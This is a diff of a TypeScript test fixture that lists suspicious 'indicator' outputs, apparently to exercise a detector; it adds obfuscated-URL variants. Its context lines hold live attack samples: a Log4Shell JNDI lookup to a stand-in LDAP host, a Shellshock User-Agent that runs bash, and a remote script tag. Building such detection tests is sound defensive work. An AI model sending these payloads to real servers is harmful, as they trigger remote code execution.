@@ -28,6 +28,9 @@ export const INDICATED = contents("indicator", false, [
   output('<script src="https://worse.example/x.js"></script>'),
   output("sha256: 9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08", "read"),
   output("see hxxp://paste[.]example/raw/abc for the rest", "webfetch"),
+  output("the absolute name http://bad.example.:8080/p leads to the same machine", "webfetch"),
+  output("see hxxp://paste[.]example./raw/abc once more", "webfetch"),
+  output("https://mirror.example/d41d8cd98f00b204e9800998ecf8427e/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b857", "bash"),
   output('10.0.0.9 - - "GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1" 200', "read"),
   output("User-Agent: () { :; }; /bin/bash -c 'id'", "read"),
 ] satisfies Content["part"][]);
